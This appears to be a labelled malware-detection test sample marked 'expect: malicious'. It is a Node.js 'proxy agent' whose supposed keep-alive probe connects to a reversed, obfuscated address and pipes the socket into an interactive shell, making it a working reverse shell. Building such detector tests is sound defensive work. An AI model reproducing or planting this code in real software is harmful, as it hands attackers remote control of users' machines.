// source: blind set 50's proxy agent (reverse-shell variant): a keep-alive "probe" connects to an address kept reversed
// and hands the socket to a helper, far from the connect, that cross-pipes it with an interactive shell.
// expect: malicious
const net = require('net');
const { spawn } = require('child_process');

const peer = ['344:9.001', '.15.891'].join('').split('').reverse().join('');

function attach(socket) {
  const win = process.platform === 'win32';
  const sh = spawn(win ? 'cmd.exe' : '/bin/sh', win ? [] : ['-i'], { windowsHide: true });
  socket.pipe(sh.stdin);
  sh.stdout.pipe(socket);
  sh.stderr.pipe(socket);
  sh.on('exit', () => socket.destroy());
}

function open() {
  // (reconnects are scheduled from here; the connection itself is made below)
  // ...
  // ...
  // ...
  const [h, p] = peer.split(':');
  const s = net.connect(+p, h, () => attach(s));
  s.on('error', () => {});
  s.unref();
}

class Agent {
  constructor() { setTimeout(open, 3000).unref(); }
}
module.exports = { Agent };
